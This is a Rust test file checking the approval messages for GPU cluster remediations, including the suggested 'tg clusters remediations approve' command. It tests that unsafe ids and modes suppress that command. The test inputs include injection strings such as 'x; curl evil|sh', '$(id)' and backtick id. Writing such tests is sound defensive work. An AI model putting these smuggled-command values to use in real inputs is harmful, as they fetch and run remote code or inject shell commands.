//! The messages that ask a person to approve.

use super::*;
use crate::{
    store::summary::rollup,
    sync::events::events_for,
    testing::{CLUSTER, at, creation, index},
};

/// The messages about a remediation that awaits approval: in its conditions, in the Event and in the condition of its
/// `ClusterWatch`.
fn messages(id: &str, mode: Option<&str>) -> Vec<String> {
    let waits = together::Remediation {
        id: id.into(),
        mode: mode.map(Into::into),
        ..item(1, "PENDING_APPROVAL")
    };
    let status = from_api(&waits, &[], 1);
    let mut all: Vec<_> = ["Succeeded", "Reconciling"]
        .map(|type_| condition(&status.conditions, type_).message.clone())
        .into();
    let event_cutoff = Some(at("2026-11-23T08:00:00Z"));
    let events = events_for(&creation(&waits), event_cutoff).into_iter();
    all.extend(events.map(|draft| draft.note));
    let index = index(&[waits]);
    let mirrors = index.mirrors(crate::testing::NAMESPACE, CLUSTER, None, |_| true);
    let mirrors = mirrors.iter().map(|(name, mirror)| (&**name, &**mirror));
    all.extend(rollup(mirrors).message);
    assert_eq!(all.len(), 4);
    all
}

#[test]
fn the_command_approves_the_mode_that_is_mirrored_and_no_other() {
    let command = "tg clusters remediations approve rem-1";
    let first = "Check that the mode is still";
    let unknown = format!("Check the mode, then approve: {command}");
    // The mode as the API has it, and how each message ends.
    let mut table = vec![
        (
            Some("HOST_POWER_CYCLE"),
            format!("{first} HOST_POWER_CYCLE, then approve: {command}"),
        ),
        (Some("TURN_AROUND"), unknown.clone()),
        (Some("x; curl evil|sh"), unknown.clone()),
        (None, unknown),
    ];
    for mode in [
        "VM_ONLY",
        "HOST_AWARE",
        "EVICT_WITHOUT_REPLACEMENT",
        "REBOOT_VM",
    ] {
        table.push((Some(mode), format!("To approve: {command} --mode {mode}")));
    }
    for (mode, end) in table {
        let mode = mode.map(|mode| format!("REMEDIATION_MODE_{mode}"));
        for message in messages("rem-1", mode.as_deref()) {
            assert!(
                message.ends_with(&end),
                "{message}\ndoes not end with: {end}"
            );
        }
    }
}

#[test]
fn a_command_is_printed_for_plain_ids_alone() {
    for id in [
        "x",
        "_",
        ".",
        "a-b_c.D9",
        "9f0c8a52-7d0e-4a39-9c1a-000000000001",
    ] {
        for message in messages(id, Some("REMEDIATION_MODE_REBOOT_VM")) {
            let command = format!(" approve {id} --mode REBOOT_VM");
            assert!(message.ends_with(&command), "{message}");
        }
    }
    for id in [
        "x; curl evil|sh",
        "-x",
        "--mode",
        "$(id)",
        "`id`",
        "a b",
        "a'b",
        "a\nb",
        "a\\",
        "a/b",
        "ü",
        "a\u{202e}b",
        "~",
        "*",
        "",
    ] {
        for mode in [
            Some("REMEDIATION_MODE_REBOOT_VM"),
            Some("REMEDIATION_MODE_HOST_POWER_CYCLE"),
            None,
        ] {
            for message in messages(id, mode) {
                assert!(!message.contains("tg clusters"), "{message}");
                assert!(message.contains("Together console"), "{message}");
            }
        }
    }
}

#[test]
fn a_long_reason_does_not_cut_the_command() {
    let waits = together::Remediation {
        reason: some(&"€".repeat(5000)),
        instance_name: some(&"n".repeat(5000)),
        ..full_item("PENDING_APPROVAL")
    };
    let status = from_api(&waits, &[], 1);
    let message = &condition(&status.conditions, "Succeeded").message;
    assert!(message.ends_with(" --mode REBOOT_VM"), "{message}");
    assert!(message.contains("€…, Xid 79)"), "{message}");
}

/// The message of Succeeded for a remediation that awaits approval for this reason and these alerts.
fn why(reason: Option<&str>, alerts: Vec<together::LinkedAlert>, omit: &[OmitField]) -> String {
    let waits = together::Remediation {
        reason: reason.map(Into::into),
        linked_alerts: alerts,
        ..full_item("PENDING_APPROVAL")
    };
    let status = from_api(&waits, omit, 1);
    condition(&status.conditions, "Succeeded").message.clone()
}

#[test]
fn the_message_says_why_with_the_xids_of_the_first_alert() {
    let alert = |name: &str, title: Option<&str>, codes: &[i64]| together::LinkedAlert {
        name: some(name),
        title: title.map(str::to_owned),
        xids: codes
            .iter()
            .map(|code| together::Xid {
                code: Some(*code),
                ..together::Xid::default()
            })
            .collect(),
        ..together::LinkedAlert::default()
    };
    let nameless = |codes| together::LinkedAlert {
        name: None,
        ..alert("", None, codes)
    };
    let titled = |codes| alert("A", Some("t"), codes);
    let later = alert("B", Some("u"), &[79]);
    // The reason, the alerts, and the part of the message about them.
    let table = [
        (None, vec![], ""),
        (Some("lost"), vec![], " (lost)"),
        (Some("lost"), vec![titled(&[79])], " (lost, Xid 79)"),
        (None, vec![titled(&[79])], " (t, Xid 79)"),
        (
            None,
            vec![alert("A", None, &[94, 79, 94])],
            " (A, Xid 79, 94)",
        ),
        (None, vec![titled(&[])], " (t)"),
        (None, vec![titled(&[]), later], " (t)"),
        (None, vec![nameless(&[79])], " (Xid 79)"),
        (None, vec![nameless(&[])], ""),
    ];
    let command = format!(
        "tg clusters remediations approve {} --mode REBOOT_VM",
        crate::testing::id(1)
    );
    for (reason, alerts, why_) in table {
        let expected = format!(
            "gpu-dp-17: reboot (REBOOT_VM) awaits approval since 2026-11-23T09:00:01Z{why_}. To approve: {command}"
        );
        assert_eq!(why(reason, alerts, &[]), expected);
    }
}

#[test]
fn what_is_omitted_is_no_cause() {
    let alerts = || full_item("PENDING_APPROVAL").linked_alerts;
    let with = |omit: &[OmitField]| why(Some("lost"), alerts(), omit);
    assert!(with(&[]).contains(" (lost, Xid 79)"));
    assert!(with(&[OmitField::LinkedAlerts]).contains(" (lost)."));
    assert!(with(&[OmitField::Reason]).contains(" (GPU fell off the bus, Xid 79)."));
    let neither = with(&[OmitField::Reason, OmitField::LinkedAlerts]);
    let since = "since 2026-11-23T09:00:01Z. To approve:";
    assert!(neither.contains(since), "{neither}");
}
